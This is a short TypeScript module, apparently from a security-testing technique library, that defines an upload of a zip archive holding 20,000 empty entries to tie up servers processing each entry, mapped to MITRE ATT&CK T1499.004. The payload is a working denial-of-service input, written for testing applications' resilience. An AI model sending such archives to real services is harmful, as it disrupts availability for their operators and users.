import { rawZip } from '../../../raw-zip.ts';
import { upload } from '../../../upload.ts';

/** Nothing, twenty thousand times. */
export const technique = upload({
  id: 'impact.many-entries-zip-upload',
  title: 'Upload an archive of twenty thousand entries',
  purpose: 'Whatever makes a file, a row or a message for each entry is busy for long.',
  mitre: ['T1499.004'],
  sources: [
    {
      title: 'Endpoint Denial of Service: Application or System Exploitation, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1499/004/',
    },
  ],
  contentType: 'application/zip',
  payload: () =>
    rawZip(
      Array.from({ length: 20_000 }, (_, at) => ({ name: `s/${at}`, content: new Uint8Array() })),
    ),
});
